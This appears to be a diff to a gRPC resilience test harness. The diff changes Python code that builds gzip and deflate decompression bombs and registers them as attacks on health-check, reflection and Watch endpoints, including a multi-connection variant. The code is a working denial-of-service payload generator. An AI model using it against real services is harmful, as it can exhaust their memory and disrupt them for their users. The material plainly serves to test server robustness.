@@ -388,7 +388,7 @@ def unknown_watches(site):
 
 def bomb(size, bits, content=b"\0" * (1 << 20)):
     """So many bytes as gzip or zlib, as a message of gRPC that says that it is compressed."""
-    packer = zlib.compressobj(9, zlib.DEFLATED, bits)
+    packer = zlib.compressobj(1, zlib.DEFLATED, bits)
     out = b"".join(packer.compress(content) for _ in range(size // len(content))) + packer.flush()
     return b"\1" + struct.pack(">I", len(out)) + out
 
@@ -399,7 +399,7 @@ _BOMBS = {}
 def send_bomb(site, path, size, encoding, connections, more=()):
     key = (size, encoding)
     if key not in _BOMBS:
-        _BOMBS[key] = bomb(size, GZIP if encoding == "gzip" else DEFLATE)
+        _BOMBS[key] = bomb(size, GZIP if encoding == "gzip" else DEFLATE, bytes(1 << 24))
         site.begin()  # Making it is not part of the attack.
     def work(_):
         wire = site.wire()
@@ -415,10 +415,10 @@ for _name, _path, _size, _encoding, _connections, _short in (
         ("gzip bomb, 512 MB, reflection", REFLECTION, 512 << 20, "gzip", 1, False),
         ("gzip bomb, 512 MB, Watch", WATCH, 512 << 20, "gzip", 1, False),
         ("gzip bomb, 512 MB, unknown method", "/no.such/Method", 512 << 20, "gzip", 1, False),
-        ("gzip bomb, 6 GB, Check", CHECK, 6 << 30, "gzip", 1, False),
+        ("gzip bomb, 4 GB, Check", CHECK, 4 << 30, "gzip", 1, False),
         ("deflate bomb, 512 MB, Check", CHECK, 512 << 20, "deflate", 1, False),
         ("8 gzip bombs of 200 MB, Check", CHECK, 200 << 20, "gzip", 8, False)):
-    REGISTERED.append(Attack(_name, "zeros that are a thousandth of it on the wire", functools.partial(
+    REGISTERED.append(Attack(_name, "zeros that are less than a hundredth of it on the wire", functools.partial(
         lambda path, size, encoding, n, site: send_bomb(site, path, size, encoding, n), _path, _size, _encoding,
         _connections), short=_short))
 
